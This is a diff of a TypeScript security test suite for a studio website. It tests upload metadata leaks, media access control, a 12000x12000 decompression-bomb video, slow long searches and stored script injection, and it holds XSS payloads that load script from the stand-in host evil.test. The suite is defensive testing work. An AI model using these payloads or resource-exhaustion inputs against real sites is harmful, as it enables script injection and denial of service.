@@ -17,7 +17,12 @@ import { brought } from './kit/upload.ts'
 type Item = { id: string; hash: string }
 
 /** Brings a file to the library as the portal does, from where it came nobody says. */
-async function bring(program: Program, cookie: string, bytes: Buffer, name: string): Promise<{ status: number; item?: Item }> {
+async function bring(
+  program: Program,
+  cookie: string,
+  bytes: Buffer,
+  name: string,
+): Promise<{ status: number; item?: Item }> {
   const { status, text } = await brought({ program, cookie }, bytes, name, '')
   return { status, ...(status === 201 && { item: (JSON.parse(text) as { item: Item }).item }) }
 }
@@ -29,15 +34,32 @@ async function placesInFiles(attempts: Attempts) {
   for (const { about, kind, format, bytes } of locatedFiles()) {
     const { item, status } = await bring(program, owner, bytes, `a.${format}`)
     if (!attempts.holds(`${about} arrives`, item !== undefined, status) || !item) continue
-    for (const name of [`${kind}.${format}`, 'original', 'stream.mp4', 'redaction.json', 'poster.jpg']) {
-      for (const [who, cookie] of [['a stranger', ''], ['crew', crew]] as const) {
-        const { status, text } = await ask(`${program.url}/media/${item.hash}-${name}`, { headers: { ...(cookie && { cookie }) } })
+    for (const name of [
+      `${kind}.${format}`,
+      'original',
+      'stream.mp4',
+      'redaction.json',
+      'poster.jpg',
+    ]) {
+      for (const [who, cookie] of [
+        ['a stranger', ''],
+        ['crew', crew],
+      ] as const) {
+        const { status, text } = await ask(`${program.url}/media/${item.hash}-${name}`, {
+          headers: { ...(cookie && { cookie }) },
+        })
         attempts.tried(`${about}: ${name} for ${who}`, status === 200, status)
         attempts.tried(`${about}: where it was made, in ${name} for ${who}`, telling.test(text))
       }
     }
-    const played = await fetch(`${program.url}/media/${item.hash}-${kind}.${format}`, { headers: { cookie: owner } })
-    attempts.tried(`${about}: where it was made, in what is played`, played.status === 200 && telling.test(Buffer.from(await played.arrayBuffer()).toString('latin1')))
+    const played = await fetch(`${program.url}/media/${item.hash}-${kind}.${format}`, {
+      headers: { cookie: owner },
+    })
+    attempts.tried(
+      `${about}: where it was made, in what is played`,
+      played.status === 200 &&
+        telling.test(Buffer.from(await played.arrayBuffer()).toString('latin1')),
+    )
   }
   await program.stop()
 }
@@ -45,21 +67,50 @@ async function placesInFiles(attempts: Attempts) {
 /** A small file that asks for gigabytes. */
 async function bombs(attempts: Attempts) {
   const file = `${newFolder()}/bomb.mov`
-  const made = spawnSync('ffmpeg', ['-v', 'error', '-f', 'lavfi', '-i', 'color=c=gray:s=12000x12000:r=1', '-frames:v', '2', '-c:v', 'png', '-threads', '1', '-y', file], { timeout: 240_000 })
-  if (made.status !== 0) return attempts.say('  without FFmpeg nothing is decoded, so nothing can be bombed')
+  const made = spawnSync(
+    'ffmpeg',
+    [
+      '-v',
+      'error',
+      '-f',
+      'lavfi',
+      '-i',
+      'color=c=gray:s=12000x12000:r=1',
+      '-frames:v',
+      '2',
+      '-c:v',
+      'png',
+      '-threads',
+      '1',
+      '-y',
+      file,
+    ],
+    { timeout: 240_000 },
+  )
+  if (made.status !== 0)
+    return attempts.say('  without FFmpeg nothing is decoded, so nothing can be bombed')
   const program = await startProgram(sampleBehindProxy)
   const owner = await sessionOf(program, 'owner')
   let most = 0
   let watching = true
-  const watch = (async () => { for (; watching; await sleep(50)) most = Math.max(most, ...familyOf(program.pid)) })()
+  const watch = (async () => {
+    for (; watching; await sleep(50)) most = Math.max(most, ...familyOf(program.pid))
+  })()
   const { status, item } = await bring(program, owner, readFileSync(file), 'bomb.mov')
   await sleep(25_000)
   watching = false
   await watch
   const mb = Math.round(most / 1024)
-  attempts.say(`  a film of ${Math.round(readFileSync(file).length / 1024)} KB, 12000 x 12000: answered ${status}, its largest process had ${mb} MB`)
+  attempts.say(
+    `  a film of ${Math.round(readFileSync(file).length / 1024)} KB, 12000 x 12000: answered ${status}, its largest process had ${mb} MB`,
+  )
   attempts.tried('more than 1 GB for one small film', mb > 1024, mb)
-  attempts.tried('a film that large being made to stream', item !== undefined && (await ask(`${program.url}/media/${item.hash}-stream.mp4`, { headers: { cookie: owner } })).status === 200)
+  attempts.tried(
+    'a film that large being made to stream',
+    item !== undefined &&
+      (await ask(`${program.url}/media/${item.hash}-stream.mp4`, { headers: { cookie: owner } }))
+        .status === 200,
+  )
   attempts.holds('the program is still there', (await ask(`${program.url}/up`)).status === 200)
   await program.stop()
 }
@@ -70,10 +121,18 @@ function familyOf(pid: number): number[] {
   for (const name of readdirSync('/proc').filter((one) => /^\d+$/.test(one))) {
     try {
       const status = readFileSync(`/proc/${name}/status`, 'utf8')
-      parents.set(Number(name), { parent: Number(/^PPid:\s+(\d+)/m.exec(status)?.[1]), kb: Number(/^VmRSS:\s+(\d+)/m.exec(status)?.[1] ?? 0) })
-    } catch { /* it has ended */ }
+      parents.set(Number(name), {
+        parent: Number(/^PPid:\s+(\d+)/m.exec(status)?.[1]),
+        kb: Number(/^VmRSS:\s+(\d+)/m.exec(status)?.[1] ?? 0),
+      })
+    } catch {
+      /* it has ended */
+    }
   }
-  const isIn = (one: number): boolean => { const parent = parents.get(one)?.parent ?? 0; return parent === pid || (parent > 1 && isIn(parent)) }
+  const isIn = (one: number): boolean => {
+    const parent = parents.get(one)?.parent ?? 0
+    return parent === pid || (parent > 1 && isIn(parent))
+  }
   return [0, ...[...parents].filter(([one]) => isIn(one)).map(([, { kb }]) => kb)]
 }
 
@@ -81,18 +140,42 @@ function familyOf(pid: number): number[] {
 async function previewFiles(attempts: Attempts) {
   const program = await startProgram(sampleBehindProxy)
   const owner = await sessionOf(program, 'owner')
-  const picture = await sharp({ create: { width: 640, height: 480, channels: 3, background: '#369' } }).jpeg().toBuffer()
+  const picture = await sharp({
+    create: { width: 640, height: 480, channels: 3, background: '#369' },
+  })
+    .jpeg()
+    .toBuffer()
   const { item } = await bring(program, owner, picture, 'secret.jpg')
-  const { link } = JSON.parse((await send(program, '/portal/settings/website/links', {}, { cookie: owner, accept: 'application/json' })).text) as { link: string }
+  const { link } = JSON.parse(
+    (
+      await send(
+        program,
+        '/portal/settings/website/links',
+        {},
+        { cookie: owner, accept: 'application/json' },
+      )
+    ).text,
+  ) as { link: string }
   const opened = await ask(`${program.url}${new URL(link).pathname}`)
   const cookie = (opened.headers['set-cookie'] ?? []).map((line) => line.split(';')[0]).join('; ')
-  attempts.holds('the private link opens the drafts', [200, 302].includes(opened.status) && cookie !== '', opened.status)
+  attempts.holds(
+    'the private link opens the drafts',
+    [200, 302].includes(opened.status) && cookie !== '',
+    opened.status,
+  )
   for (let round = 0; round < 200; round++) {
-    if ((await ask(`${program.url}/media/${item!.hash}-480.jpg`, { headers: { cookie: owner } })).status === 200) break
+    if (
+      (await ask(`${program.url}/media/${item!.hash}-480.jpg`, { headers: { cookie: owner } }))
+        .status === 200
+    )
+      break
     await sleep(100)
   }
   for (const name of ['480.jpg', '480.webp', '480.avif', '640.webp', 'original', '1200.jpg']) {
-    for (const [who, headers] of [['whoever has the link', { cookie }], ['a stranger', {}]] as const) {
+    for (const [who, headers] of [
+      ['whoever has the link', { cookie }],
+      ['a stranger', {}],
+    ] as const) {
       const { status } = await ask(`${program.url}/media/${item!.hash}-${name}`, { headers })
       attempts.tried(`a file no draft shows, ${name}, for ${who}`, status === 200, status)
     }
@@ -104,40 +187,99 @@ async function previewFiles(attempts: Attempts) {
 async function longSearches(attempts: Attempts) {
   const program = await startProgram(sampleBehindProxy)
   const [owner, crew] = [await sessionOf(program, 'owner'), await sessionOf(program, 'crew')]
-  const words = encodeURIComponent(Array.from({ length: 1500 }, (_, n) => `w${n}`).join(' ')).slice(0, 14_000)
+  const words = encodeURIComponent(Array.from({ length: 1500 }, (_, n) => `w${n}`).join(' ')).slice(
+    0,
+    14_000,
+  )
   await ask(`${program.url}/dates/photography`)
-  for (const [path, cookie] of [['/portal/projects/list', crew], ['/portal/clients', owner], ['/portal/clients/inquiries', owner], ['/portal/bookings/list', owner], ['/portal/settings/library', owner], ['/portal/search', owner]] as const) {
+  for (const [path, cookie] of [
+    ['/portal/projects/list', crew],
+    ['/portal/clients', owner],
+    ['/portal/clients/inquiries', owner],
+    ['/portal/bookings/list', owner],
+    ['/portal/settings/library', owner],
+    ['/portal/search', owner],
+  ] as const) {
     const long = ask(`${program.url}${path}?q=${words}`, { headers: { cookie } })
     await sleep(20)
-    const [{ status, ms }, visitor] = await Promise.all([long, ask(`${program.url}/dates/photography?asked=${randomUUID()}`)])
-    attempts.tried(`${path}: everybody waiting for one search`, ms > 4000 || visitor.ms > 4000 || status >= 500, { status, ms: Math.round(ms), visitor: Math.round(visitor.ms) })
+    const [{ status, ms }, visitor] = await Promise.all([
+      long,
+      ask(`${program.url}/dates/photography?asked=${randomUUID()}`),
+    ])
+    attempts.tried(
+      `${path}: everybody waiting for one search`,
+      ms > 4000 || visitor.ms > 4000 || status >= 500,
+      { status, ms: Math.round(ms), visitor: Math.round(visitor.ms) },
+    )
   }
   await program.stop()
 }
 
-const scripts = ['<script>alert(1)</script>', '<script type="module">import "https://evil.test/a.js"</script>', '<script src="https://evil.test/a.js"></script>', '<style>*{background:url(//evil.test)}</style>', '<script type="application/ld+json" src="//evil.test"></script>', '<SCRIPT >alert(1)</SCRIPT>']
-const markup = [...scripts, '<img src=x onerror=alert(1)>', '<svg onload=alert(1)></svg>', '"><script>alert(1)</script>', "'-alert(1)-'", '</title><script>alert(1)</script>', '{"a":"</script><script>alert(1)</script>"}']
+const scripts = [
+  '<script>alert(1)</script>',
+  '<script type="module">import "https://evil.test/a.js"</script>',
+  '<script src="https://evil.test/a.js"></script>',
+  '<style>*{background:url(//evil.test)}</style>',
+  '<script type="application/ld+json" src="//evil.test"></script>',
+  '<SCRIPT >alert(1)</SCRIPT>',
+]
+const markup = [
+  ...scripts,
+  '<img src=x onerror=alert(1)>',
+  '<svg onload=alert(1)></svg>',
+  '"><script>alert(1)</script>',
+  "'-alert(1)-'",
+  '</title><script>alert(1)</script>',
+  '{"a":"</script><script>alert(1)</script>"}',
+]
 
 /** What is typed is text on every page, and a page with a script that is not the program's is given to nobody. */
 async function foreignScripts(attempts: Attempts) {
   const first = await startProgram({})
   await first.stop()
-  await inData(first, (ask) => ask('update studio set name = $1, legal_name = $1, content_version = content_version + 1', [markup.join(' ')]))
+  await inData(first, (ask) =>
+    ask('update studio set name = $1, legal_name = $1, content_version = content_version + 1', [
+      markup.join(' '),
+    ]),
+  )
   const program = await startProgram({ DATA_DIR: first.dataDir })
-  for (const path of ['/', '/about', '/contact', '/portfolio', '/auth', '/manifest.webmanifest', '/sitemap.xml']) {
+  for (const path of [
+    '/',
+    '/about',
+    '/contact',
+    '/portfolio',
+    '/auth',
+    '/manifest.webmanifest',
+    '/sitemap.xml',
+  ]) {
     const { text, headers } = await ask(`${program.url}${path}`)
     const isPage = String(headers['content-type']).startsWith('text/html')
-    for (const evil of markup.filter((one) => one.startsWith('<') || one.startsWith('"'))) attempts.tried(`${path}: a studio called ${evil}`, isPage && text.includes(evil))
-    attempts.tried(`${path}: a policy that lets anything in`, isPage && /unsafe-inline|unsafe-eval|evil\.test|script-src \*/.test(String(headers['content-security-policy'])))
+    for (const evil of markup.filter((one) => one.startsWith('<') || one.startsWith('"')))
+      attempts.tried(`${path}: a studio called ${evil}`, isPage && text.includes(evil))
+    attempts.tried(
+      `${path}: a policy that lets anything in`,
+      isPage &&
+        /unsafe-inline|unsafe-eval|evil\.test|script-src \*/.test(
+          String(headers['content-security-policy']),
+        ),
+    )
   }
   await program.stop()
   for (const evil of scripts) {
     let isGiven = true
-    try { withoutNonce(`<body><script nonce="ours">1</script>${evil}</body>`, 'ours') } catch { isGiven = false }
+    try {
+      withoutNonce(`<body><script nonce="ours">1</script>${evil}</body>`, 'ours')
+    } catch {
+      isGiven = false
+    }
     attempts.tried(`a kept page with ${evil}`, isGiven)
   }
 }
 
 export const fileScenes: Record<string, Scene> = {
-  'places in files': placesInFiles, 'films that are bombs': bombs, 'files behind a private link': previewFiles, 'long searches': longSearches, 'foreign scripts': foreignScripts,
+  'places in files': placesInFiles,
+  'films that are bombs': bombs,
+  'files behind a private link': previewFiles,
+  'long searches': longSearches,
+  'foreign scripts': foreignScripts,
 }
